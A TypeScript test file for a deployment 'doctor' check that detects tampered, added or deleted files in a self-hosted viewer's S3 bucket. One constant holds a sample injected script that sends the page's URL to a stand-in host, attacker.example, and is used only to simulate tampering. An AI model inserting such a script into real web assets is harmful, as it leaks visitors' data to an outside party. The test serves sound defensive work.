/**
 * The doctor's "Viewer files" check against the embedded S3 server: a viewer bucket synced as
 * `pulumi up` leaves it passes; a replaced, added or deleted file fails, named from the sync's
 * manifest when that manifest adds up to the stack's viewerFilesDigest output, and unnamed when the
 * manifest was forged too; a stack deployed before the output existed gets a warning.
 */
import * as assert from "node:assert/strict";
import { cpSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { CreateBucketCommand, DeleteObjectCommand, PutObjectCommand } from "@aws-sdk/client-s3";
import { syncViewerFolder, VIEWER_SYNC_MANIFEST_KEY } from "../../components/viewer-folder-sync";
import { servedViewer } from "../../components/viewer/served-viewer";
import { doctorCommand } from "../../scripts/lib/cli/commands/doctor-command";
import { CheckResult } from "../../scripts/lib/doctor/doctor-model";
import { run } from "../support/cli-runner";
import { PRESIGNER_KEY, startTestBucket, TestBucket } from "../support/local-bucket";
import { STAND_IN_VIEWER } from "../support/stand-in-viewer";

const VIEWER_BUCKET = "chromoscope-test-viewer";
const EVIL = "fetch('https://attacker.example/?' + location.href)";

describe("doctor: the self-hosted viewer's files against the deployed build (embedded S3 server)", function () {
  this.timeout(60_000);
  let bucket: TestBucket;
  let folder: string;
  const saved: Record<string, string | undefined> = {};

  before(async () => {
    bucket = await startTestBucket();
    await bucket.client.send(new CreateBucketCommand({ Bucket: VIEWER_BUCKET }));
    folder = mkdtempSync(join(tmpdir(), "viewer-build-"));
    cpSync(STAND_IN_VIEWER, folder, { recursive: true });
    for (const [name, value] of Object.entries({
      AWS_ACCESS_KEY_ID: PRESIGNER_KEY.accessKeyId,
      AWS_SECRET_ACCESS_KEY: PRESIGNER_KEY.secretAccessKey,
    })) {
      saved[name] = process.env[name];
      process.env[name] = value;
    }
  });
  after(async () => {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    rmSync(folder, { recursive: true, force: true });
    await bucket.close();
  });
  beforeEach(async () => {
    await syncViewerFolder({
      bucket: VIEWER_BUCKET,
      region: bucket.server.region,
      folder,
      digest: "",
      endpoint: bucket.server.endpoint,
    });
  });

  const put = (key: string, body: string) =>
    bucket.client.send(new PutObjectCommand({ Bucket: VIEWER_BUCKET, Key: key, Body: body }));

  /** The doctor's viewer-files check with the stack's outputs (plus `changes`; null removes one). */
  async function viewerCheck(changes: Record<string, unknown> = {}): Promise<CheckResult | undefined> {
    const outputs: Record<string, unknown> = {
      ...bucket.outputs,
      viewerBucketName: VIEWER_BUCKET,
      viewerFilesDigest: servedViewer(folder).listingDigest,
      ...changes,
    };
    for (const [key, value] of Object.entries(outputs)) if (value === null) delete outputs[key];
    const file = bucket.scratch(`outputs-${Object.keys(changes).join("-") || "viewer"}.json`, JSON.stringify(outputs));
    const result = await run(doctorCommand, ["--json", "--outputs", file, "--endpoint", bucket.server.endpoint]);
    const report = JSON.parse(result.stdout) as { checks: CheckResult[] };
    return report.checks.find((check) => check.id === "viewer-files");
  }

  it("passes a bucket synced from the build", async () => {
    const check = await viewerCheck();
    assert.equal(check?.status, "pass", check?.detail);
    assert.equal(
      check?.detail,
      `7 files under app/ of ${VIEWER_BUCKET} hold the deployed build (each ETag is the served file's MD5)`,
    );
  });

  it("fails naming a replaced script, an added one and a deleted page, with the fix", async () => {
    await put("app/assets/app.js", EVIL);
    await put("app/assets/extra.js", EVIL);
    await bucket.client.send(new DeleteObjectCommand({ Bucket: VIEWER_BUCKET, Key: "app/index.html" }));
    const check = await viewerCheck();
    assert.equal(check?.status, "fail");
    assert.equal(
      check?.detail,
      `3 files of ${VIEWER_BUCKET} differ from the deployed build: app/assets/app.js (changed), app/assets/extra.js (not in the build), app/index.html (missing)`,
    );
    assert.match(String(check?.fix), /^run `pulumi up`: it restores the build's files/);
  });

  it("fails without names when the manifest was altered to match the forgery", async () => {
    await put("app/assets/app.js", EVIL);
    await put(VIEWER_SYNC_MANIFEST_KEY, JSON.stringify({ files: { "app/assets/app.js": { md5: "0" } } }));
    const check = await viewerCheck();
    assert.equal(check?.status, "fail");
    assert.match(
      String(check?.detail),
      /are not the deployed build \(7 files listed\); the sync's manifest is missing or altered too/,
    );
  });

  it("warns for a stack deployed before it recorded viewerFilesDigest; absent for a stack without a self-hosted viewer", async () => {
    const older = await viewerCheck({ viewerFilesDigest: null });
    assert.equal(older?.status, "warn");
    assert.match(String(older?.fix), /run `pulumi up`, which checks the live files against the build/);
    assert.equal(await viewerCheck({ viewerBucketName: null, viewerFilesDigest: null }), undefined);
  });
});
